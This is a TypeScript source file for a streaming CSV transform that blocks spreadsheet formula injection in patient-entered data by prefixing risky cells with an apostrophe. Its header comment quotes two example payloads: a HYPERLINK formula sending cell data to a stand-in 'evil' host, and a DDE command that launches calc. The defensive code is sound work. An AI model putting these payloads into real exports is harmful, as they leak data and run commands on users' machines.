/**
 * CSV for spreadsheets: a cell a patient wrote, like `=HYPERLINK("http://evil/?"&A1,"Click")`
 * or `@SUM(1)*cmd|' /C calc'!A0`, is a formula to Excel, LibreOffice and
 * Sheets. Following the OWASP rule, a cell whose text starts with `=`, `+`,
 * `-`, `@`, a tab or a carriage return gets a leading `'`, which spreadsheets
 * read as "this is text" and do not show.
 *
 * The CSV is rewritten as it streams (RFC 4180: fields separated by commas,
 * quoted fields may hold commas, quotes doubled, CR and LF), without parsing
 * it into rows, so a large export costs no memory. Everything but the
 * inserted apostrophes is copied byte for byte.
 */
import { Transform } from 'node:stream';
import { StringDecoder } from 'node:string_decoder';

const TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r']);

type State =
  /** Before the document's first character (a byte-order mark is copied and skipped). */
  | 'document-start'
  /** A JSON document (passJson): copied as it is. */
  | 'json'
  /** At the first character of a field. */
  | 'field-start'
  /** Just after the opening quote of a quoted field: the next character is the first of its text. */
  | 'quoted-start'
  | 'quoted'
  /** A quote inside a quoted field: either the closing quote or the first of a doubled pair. */
  | 'quoted-quote'
  | 'unquoted';

export class FormulaGuard extends Transform {
  private state: State = 'document-start';
  private readonly decoder = new StringDecoder('utf8');

  /**
   * `passJson`: for a download whose type does not say (application/octet-stream, none): a
   * document that starts with `{` or `[` (after a byte-order mark and white space) is JSON and
   * passes unchanged; any other is guarded as CSV.
   */
  constructor(private readonly options: { passJson?: boolean } = {}) {
    super();
  }

  override _transform(chunk: Buffer, _encoding: BufferEncoding, done: (err?: Error | null, data?: string) => void): void {
    done(null, this.guard(this.decoder.write(chunk)));
  }

  override _flush(done: (err?: Error | null, data?: string) => void): void {
    done(null, this.guard(this.decoder.end()));
  }

  private guard(text: string): string {
    let out = '';
    if (this.state === 'json') return text;
    for (const ch of text) {
      if (this.state === 'document-start') {
        // A byte-order mark is not the cell's first character to a spreadsheet: `\uFEFF=1+1` is a formula.
        if (ch === '\uFEFF' || (this.options.passJson && /\s/.test(ch))) {
          out += ch;
          continue;
        }
        if (this.options.passJson && (ch === '{' || ch === '[')) {
          this.state = 'json';
          return out + text.slice(out.length);
        }
        this.state = 'field-start';
      }
      switch (this.state) {
        case 'field-start':
          if (ch === '"') this.state = 'quoted-start';
          else if (ch === ',' || ch === '\n' || ch === '\r') this.state = 'field-start';
          else {
            if (TRIGGERS.has(ch)) out += "'";
            this.state = 'unquoted';
          }
          break;
        case 'quoted-start':
          if (ch === '"') this.state = 'quoted-quote';
          else {
            if (TRIGGERS.has(ch)) out += "'";
            this.state = 'quoted';
          }
          break;
        case 'quoted':
          if (ch === '"') this.state = 'quoted-quote';
          break;
        case 'quoted-quote':
          // `""` is a quote in the text; anything else ends the field.
          if (ch === '"') this.state = 'quoted';
          else if (ch === ',' || ch === '\n' || ch === '\r') this.state = 'field-start';
          else this.state = 'unquoted';
          break;
        case 'unquoted':
          if (ch === ',' || ch === '\n' || ch === '\r') this.state = 'field-start';
          break;
      }
      out += ch;
    }
    return out;
  }
}
